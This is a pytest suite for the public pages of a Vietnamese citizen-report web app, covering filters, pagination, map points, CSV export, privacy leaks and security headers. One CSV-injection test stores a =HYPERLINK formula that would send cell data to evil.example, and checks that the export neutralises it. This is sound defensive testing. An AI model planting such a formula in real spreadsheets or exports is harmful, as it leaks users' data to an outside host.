"""What anyone may read: list, filters, keyset pages, map points, CSV, detail pages;
no personal data anywhere; the commune finder; security headers on every page."""

import base64
import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from paht.media.models import MediaState
from paht.media.uploads import attachments_attach
from paht.reports.models import Report, State
from paht.reports.permissions import Actor
from paht.reports.services import report_transition
from paht.reports.workflow import Action
from tests.factories import AN_XUYEN, AN_XUYEN_POINT, TAN_THANH, report_in_state
from tests.media import samples
from tests.media.conftest import upload
from tests.web.helpers import (
    SUBMIT,
    TRACK,
    assert_field_error,
    assert_secure_page,
    dom,
    errors_in,
    form_data,
    use_tmp_media,
    value_of,
)

LIST = "/cong-khai/"
CSV = "/cong-khai/phan-anh.csv"
MAP = "/cong-khai/ban-do/"
POINTS = "/cong-khai/diem.json"
LOCATE = "/dia-ban/vi-tri.json"
CODE = re.compile(r'<span class="code">(PA-\d{4}-\d{6}(?:-L2)?)</span>')


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    return use_tmp_media(settings, tmp_path)


def codes_in(response) -> list[str]:
    assert response.status_code == 200, response.content.decode()[:500]
    return CODE.findall(response.content.decode())


def csv_rows(response) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def with_ready_photo(report: Report) -> None:
    """A processed, public photo on the report, as the worker leaves it."""
    result = upload(samples.jpeg(64, 48, exif=False, xmp=False))
    attachments_attach(
        report=report,
        refs=[(str(result.attachment.pk), result.key)],
        actor=Actor.reporter(report),
    )
    report.attachments.update(state=MediaState.READY)


@pytest.fixture
def mix(world):
    """Reports in every situation the public pages must tell apart."""
    now = timezone.now()
    made = {}
    made["road"], _ = report_in_state(world, State.PUBLISHED, at=now - timedelta(days=60))
    made["trash"], _ = report_in_state(
        world,
        State.PUBLISHED,
        at=now - timedelta(days=30),
        field="ve_sinh_moi_truong",
        title="Rác ứ đọng sau chợ Tân Thành",
        lat=None,
        lng=None,
        commune_code=TAN_THANH,
    )
    made["closed"], _ = report_in_state(world, State.CLOSED, at=now - timedelta(days=20))
    made["reopened"], _ = report_in_state(world, State.REOPENED, at=now - timedelta(days=10))
    made["private"], _ = report_in_state(world, State.PUBLISHED, at=now - timedelta(days=5))
    report_transition(
        report=made["private"], action=Action.SET_PRIVATE, actor=world.actor("coordinator")
    )
    made["private"].refresh_from_db()
    made["in_progress"], _ = report_in_state(world, State.IN_PROGRESS)
    made["approved"], _ = report_in_state(world, State.APPROVED)
    made["returned"], _ = report_in_state(world, State.RETURNED)
    made["round2"] = Report.objects.get(previous_round=made["reopened"])
    return made


PUBLIC = {"road", "trash", "closed", "reopened"}


# --- the list -------------------------------------------------------------------------


def test_the_list_shows_only_published_public_reports(client, mix):
    response = client.get(LIST)
    assert_secure_page(response)
    shown = codes_in(response)
    assert sorted(shown) == sorted(mix[k].code for k in PUBLIC)
    # Newest publication first.
    expected = Report.objects.filter(pk__in=[mix[k].pk for k in PUBLIC]).order_by(
        "-published_at", "-id"
    )
    assert shown == [r.code for r in expected]


def test_the_home_page_shows_only_published_public_reports(client, mix):
    response = client.get("/")
    assert_secure_page(response)
    assert sorted(codes_in(response)) == sorted(mix[k].code for k in PUBLIC)


@pytest.mark.parametrize(
    "query, expected",
    [
        ({"linh_vuc": "ve_sinh_moi_truong"}, {"trash"}),
        ({"linh_vuc": "ha_tang_do_thi"}, {"road", "closed", "reopened"}),
        ({"linh_vuc": "cap_thoat_nuoc"}, set()),
        ({"trang_thai": "closed"}, {"closed"}),
        ({"trang_thai": "reopened"}, {"reopened"}),
        ({"trang_thai": "published"}, {"road", "trash"}),
        ({"xa": TAN_THANH}, {"trash"}),
        ({"xa": AN_XUYEN}, {"road", "closed", "reopened"}),
        ({"tu_ngay": -35}, {"trash", "closed", "reopened"}),
        ({"den_ngay": -25}, {"road", "trash"}),
        ({"tu_ngay": -30, "den_ngay": -20}, {"trash", "closed"}),
        ({"tu_ngay": -60, "den_ngay": -60}, {"road"}),
        ({"linh_vuc": "ha_tang_do_thi", "tu_ngay": -25, "trang_thai": "closed"}, {"closed"}),
        ({"linh_vuc": "", "trang_thai": "", "xa": "", "tu_ngay": "", "den_ngay": ""}, PUBLIC),
    ],
)
def test_filters(client, mix, query, expected):
    today = timezone.localdate()
    params = {
        k: (today + timedelta(days=v)).isoformat() if isinstance(v, int) else v
        for k, v in query.items()
    }
    listed = codes_in(client.get(LIST, params))
    assert sorted(listed) == sorted(mix[k].code for k in expected)
    # The map's points and the CSV follow the same filters.
    points = client.get(POINTS, params).json()["points"]
    with_point = {mix[k].code for k in expected if mix[k].lat is not None}
    assert {p[0] for p in points} == with_point
    rows = csv_rows(client.get(CSV, params))
    assert [r[0] for r in rows[1:]] == listed
    # The filter form shows what was chosen.
    root = dom(client.get(LIST, params))
    for name, value in params.items():
        assert value_of(root, name) == value


@pytest.mark.parametrize(
    "query, name, message",
    [
        ({"linh_vuc": "khong_co"}, "linh_vuc", "Giá trị không hợp lệ."),
        ({"trang_thai": "in_progress"}, "trang_thai", "Giá trị không hợp lệ."),
        ({"trang_thai": "submitted"}, "trang_thai", "Giá trị không hợp lệ."),
        ({"xa": "00004"}, "xa", "Giá trị không hợp lệ."),
        ({"tu_ngay": "hôm qua"}, "tu_ngay", "Ngày không hợp lệ."),
        ({"den_ngay": "2026-13-45"}, "den_ngay", "Ngày không hợp lệ."),
        (
            {"tu_ngay": "2026-05-10", "den_ngay": "2026-05-01"},
            "den_ngay",
            "Ngày kết thúc không được trước",
        ),
    ],
)
def test_invalid_filters_are_400_with_messages(client, mix, query, name, message):
    response = client.get(LIST, query)
    assert response.status_code == 400
    assert_secure_page(response)
    assert "Bộ lọc không hợp lệ, vui lòng sửa các mục được đánh dấu." in response.content.decode()
    assert_field_error(response, name, message)
    assert set(errors_in(response)) == {name}
    assert CODE.findall(response.content.decode()) == []

    points = client.get(POINTS, query)
    assert points.status_code == 400
    body = points.json()["error"]
    assert body["message"] == "Bộ lọc không hợp lệ." and message in body["fields"][name][0]

    exported = client.get(CSV, query)
    assert exported.status_code == 400
    assert "Bộ lọc không hợp lệ" in exported.content.decode() and message in (
        exported.content.decode()
    )
    assert client.get(MAP, query).status_code == 400


def _publish_many(world, n: int) -> list[Report]:
    reports = [report_in_state(world, State.PUBLISHED)[0] for _ in range(n)]
    # Several reports published at the same instant: the order must still be total.
    base = timezone.now() - timedelta(days=1)
    for i, report in enumerate(reports):
        Report.objects.filter(pk=report.pk).update(published_at=base + timedelta(hours=i // 4))
    return reports


def test_keyset_pages_walk_every_report_once(client, world):
    reports = _publish_many(world, 45)
    expected = [
        r.code
        for r in Report.objects.filter(pk__in=[r.pk for r in reports]).order_by(
            "-published_at", "-id"
        )
    ]
    seen, sizes, url = [], [], LIST
    for _ in range(10):
        response = client.get(url)
        page = codes_in(response)
        sizes.append(len(page))
        seen += page
        found = re.search(r'<a href="\?([^"]*)" rel="next">', response.content.decode())
        if not found:
            break
        url = LIST + "?" + found.group(1).replace("&amp;", "&")
    assert sizes == [20, 20, 5]
    assert seen == expected  # same order, no duplicate, no gap


def test_keyset_pages_keep_the_filters(client, world):
    reports = _publish_many(world, 25)
    # 22 in Tân Thành, 3 left in An Xuyên: the second page holds the last 2 of Tân Thành.
    Report.objects.filter(pk__in=[r.pk for r in reports[:22]]).update(commune_id=TAN_THANH)
    first = client.get(LIST, {"xa": TAN_THANH})
    assert len(codes_in(first)) == 20
    link = re.search(r'<a href="\?([^"]*)" rel="next">', first.content.decode()).group(1)
    assert f"xa={TAN_THANH}" in link
    second = codes_in(client.get(LIST + "?" + link.replace("&amp;", "&")))
    assert len(second) == 2
    assert set(second).isdisjoint(codes_in(first))
    in_tan_thanh = {r.code for r in reports[:22]}
    assert set(codes_in(first)) | set(second) == in_tan_thanh


def _cursor(raw: str) -> str:
    return base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")


BAD_CURSORS = {
    "not base64": "%%%",
    "words": "không-phải-con-trỏ",
    "no time zone": _cursor("2026-01-01T00:00:00|5"),
    "not a date": _cursor("hôm qua|5"),
    "id not a number": _cursor("2026-01-01T00:00:00+07:00|abc"),
    "id too big": _cursor("2026-01-01T00:00:00+07:00|99999999999999999999999999"),
    "id negative": _cursor("2026-01-01T00:00:00+07:00|-1"),
    "year 1": _cursor("0001-01-01T00:00:00+14:00|5"),
    "year 9999": _cursor("9999-12-31T23:59:59-12:00|5"),
    "three parts": _cursor("2026-01-01T00:00:00+07:00|5|6"),
}


@pytest.mark.parametrize("cursor", BAD_CURSORS.values(), ids=BAD_CURSORS.keys())
def test_a_bad_cursor_starts_from_the_top(client, world, cursor):
    _publish_many(world, 22)
    top = codes_in(client.get(LIST))
    assert len(top) == 20
    assert codes_in(client.get(LIST, {"sau": cursor})) == top


def test_a_cursor_from_long_ago_is_an_empty_page_not_an_error(client, world):
    _publish_many(world, 3)
    response = client.get(LIST, {"sau": _cursor("2001-01-01T00:00:00+07:00|5")})
    assert codes_in(response) == []
    assert "Không có phản ánh nào phù hợp." in response.content.decode()


# Session-less visitor: filter choices (fields, communes), the page, its thumbnails.
LIST_QUERIES = 4


def test_the_list_costs_a_fixed_number_of_queries(client, world, django_assert_max_num_queries):
    reports = _publish_many(world, 2)
    for report in reports:
        with_ready_photo(report)
    with CaptureQueriesContext(connection) as few:
        response = client.get(LIST)
    assert len(codes_in(response)) == 2
    assert response.content.decode().count('<img src="/media/') == 2

    more = _publish_many(world, 23)
    for report in more:
        with_ready_photo(report)
    with django_assert_max_num_queries(LIST_QUERIES):
        response = client.get(LIST)
    assert len(codes_in(response)) == 20
    assert response.content.decode().count('<img src="/media/') == 20
    with CaptureQueriesContext(connection) as many:
        client.get(LIST)
    assert len(many) == len(few)


# --- map points and CSV ---------------------------------------------------------------


def test_map_points_are_the_published_reports_with_a_place(client, mix):
    response = client.get(POINTS)
    assert response.status_code == 200
    data = response.json()
    by_code = {p[0]: p for p in data["points"]}
    assert set(by_code) == {mix[k].code for k in ("road", "closed", "reopened")}
    road = mix["road"]
    assert by_code[road.code] == [
        road.code,
        road.title,
        "Hạ tầng đô thị",
        pytest.approx(AN_XUYEN_POINT[0]),
        pytest.approx(AN_XUYEN_POINT[1]),
    ]
    assert data["truncated"] is False
    assert data["detail_url"] == "/cong-khai/CODE/"
    assert_secure_page(client.get(MAP))


def test_csv_has_a_bom_a_header_and_the_list_rows(client, mix):
    response = client.get(CSV)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="phan-anh-cong-khai-')
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = csv_rows(response)
    assert rows[0] == [
        "Mã",
        "Tiêu đề",
        "Lĩnh vực",
        "Xã, phường",
        "Địa chỉ",
        "Vĩ độ",
        "Kinh độ",
        "Gửi lúc",
        "Công bố lúc",
        "Trạng thái",
        "Đơn vị chủ trì",
        "Đánh giá (sao)",
    ]
    assert [r[0] for r in rows[1:]] == codes_in(client.get(LIST))
    trash = next(r for r in rows if r[0] == mix["trash"].code)
    assert trash[1] == "Rác ứ đọng sau chợ Tân Thành"
    assert trash[2] == "Vệ sinh môi trường" and trash[3] == "Phường Tân Thành"
    assert trash[5] == trash[6] == ""
    assert trash[9] == "Đã có kết quả" or trash[9] == mix["trash"].get_state_display()
    assert trash[10] == "UBND Phường An Xuyên"
    submitted = timezone.localtime(mix["trash"].submitted_at).strftime("%Y-%m-%d %H:%M")
    assert trash[7] == submitted


def test_csv_cells_cannot_run_as_spreadsheet_formulas(client, world):
    report, _ = report_in_state(
        world,
        State.PUBLISHED,
        title='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
        address="+84 đường Lý Thường Kiệt",
    )
    row = next(r for r in csv_rows(client.get(CSV)) if r[0] == report.code)
    assert row[1] == "'" + report.title
    assert row[4] == "'+84 đường Lý Thường Kiệt"


# --- detail pages ---------------------------------------------------------------------


@pytest.mark.parametrize("key", sorted(PUBLIC))
def test_the_detail_page_of_a_public_report(client, mix, key):
    report = mix[key]
    response = client.get(f"/cong-khai/{report.code}/")
    assert response.status_code == 200
    assert_secure_page(response)
    html = response.content.decode()
    assert report.code in html and report.title in html
    assert "Đã vá ổ gà, mặt đường an toàn." in html  # the published result


@pytest.mark.parametrize("key", ["private", "in_progress", "approved", "returned", "round2"])
def test_the_detail_page_is_404_for_what_is_not_public(client, mix, key):
    response = client.get(f"/cong-khai/{mix[key].code}/")
    assert response.status_code == 404
    assert mix[key].description not in response.content.decode()


def test_a_result_made_private_after_publication_disappears_everywhere(client, mix, world):
    road = mix["road"]
    report_transition(report=road, action=Action.SET_PRIVATE, actor=world.actor("coordinator"))
    assert client.get(f"/cong-khai/{road.code}/").status_code == 404
    assert road.code not in codes_in(client.get(LIST))
    assert road.code not in {p[0] for p in client.get(POINTS).json()["points"]}
    assert road.code not in client.get(CSV).content.decode()


# --- personal data ----------------------------------------------------------------------

SECRET_NAME, SECRET_PHONE, SECRET_EMAIL = "Trần Thị Riêngtư", "0987654321", "riengtu@example.com"


def test_no_personal_data_on_any_public_page(client, world):
    contact = {"name": SECRET_NAME, "phone": SECRET_PHONE, "email": SECRET_EMAIL}
    published, _ = report_in_state(world, State.PUBLISHED, **contact)
    reporter = Actor.reporter(published)
    report_transition(
        report=published,
        action=Action.REPLY,
        actor=reporter,
        note=f"Tôi là {SECRET_NAME}, số {SECRET_PHONE}, email {SECRET_EMAIL}",
    )
    report_transition(
        report=published, action=Action.RATE, actor=reporter, rating=5, satisfied=True
    )
    reopened, _ = report_in_state(world, State.PUBLISHED, **contact)
    report_transition(
        report=reopened,
        action=Action.REOPEN,
        actor=Actor.reporter(reopened),
        note=f"Gọi lại cho {SECRET_NAME} theo số {SECRET_PHONE}",
    )
    closed, _ = report_in_state(world, State.CLOSED, **contact, share_identity=True)
    for report in (published, reopened, closed):
        with_ready_photo(report)

    pages = {
        "home": client.get("/"),
        "list": client.get(LIST),
        "map": client.get(MAP),
        "points": client.get(POINTS),
        "csv": client.get(CSV),
    }
    for report in (published, reopened, closed):
        pages[report.code] = client.get(f"/cong-khai/{report.code}/")
    for name, response in pages.items():
        assert response.status_code == 200, name
        body = response.content.decode()
        for secret in (SECRET_NAME, "Riêngtư", SECRET_PHONE, "987654321", SECRET_EMAIL):
            assert secret not in body, (name, secret)
    # The pages do show the reports themselves, and the rating.
    assert published.code in pages["list"].content.decode()
    assert "5/5" in pages[published.code].content.decode()
    assert json.loads(pages["points"].content)["points"]


# --- the commune finder -------------------------------------------------------------------


def test_a_point_in_an_xuyen_finds_its_commune(client, world):
    lat, lng = AN_XUYEN_POINT
    response = client.get(LOCATE, {"lat": lat, "lng": lng})
    assert response.status_code == 200
    assert response.json() == {"code": AN_XUYEN, "name": "Phường An Xuyên", "province": "96"}


@pytest.mark.parametrize(
    "query, message",
    [
        ({"lat": "21.0285", "lng": "105.8542"}, "Vị trí nằm ngoài địa bàn tỉnh."),
        ({"lat": "-9.2250", "lng": "-105.1790"}, "Vị trí nằm ngoài địa bàn tỉnh."),
        ({"lat": "abc", "lng": "105.1790"}, "Tọa độ không hợp lệ."),
        ({"lat": "9.2250"}, "Tọa độ không hợp lệ."),
        ({}, "Tọa độ không hợp lệ."),
        ({"lat": "nan", "lng": "nan"}, "Tọa độ không hợp lệ."),
        ({"lat": "inf", "lng": "105.1790"}, "Tọa độ không hợp lệ."),
        ({"lat": "95", "lng": "105.1790"}, "Tọa độ không hợp lệ."),
    ],
)
def test_the_commune_finder_refuses_bad_points_in_json(client, world, query, message):
    response = client.get(LOCATE, query)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["error"]["message"] == message


def test_the_commune_finder_only_reads(client, world):
    lat, lng = AN_XUYEN_POINT
    assert client.post(LOCATE, {"lat": lat, "lng": lng}).status_code == 405


# --- security headers on every page ----------------------------------------------------------


def test_every_page_has_the_csp_and_no_inline_script(client, mix, world, settings):
    road = mix["road"]
    sender = Client()
    done = sender.post(SUBMIT, form_data())
    assert done.status_code == 302
    code = done["Location"].split("/")[-2]
    pages = {
        "home": client.get("/"),
        "submit": client.get(SUBMIT),
        "submit with errors": client.post(SUBMIT, form_data(name="", phone="x")),
        "track": client.get(TRACK),
        "track with errors": client.post(TRACK, {"code": "", "phone": "x"}),
        "bad secret link": client.get(f"/theo-doi/{road.code}/sai/"),
        "list": client.get(LIST),
        "list with errors": client.get(LIST, {"tu_ngay": "x"}),
        "map": client.get(MAP),
        "detail": client.get(f"/cong-khai/{road.code}/"),
        "done": sender.get(done["Location"]),
        "reporter page": sender.get(f"/phan-anh/{code}/"),
        "points": client.get(POINTS),
        "csv": client.get(CSV),
        "locate": client.get(LOCATE, {"lat": "x"}),
        "statistics": client.get("/thong-ke/"),
        "sign in": client.get("/tai-khoan/dang-nhap/"),
    }
    for name, response in pages.items():
        assert response.status_code in {200, 400, 404}, (name, response.status_code)
        assert_secure_page(response)
    assert "script-src 'self'" in pages["home"]["Content-Security-Policy"]
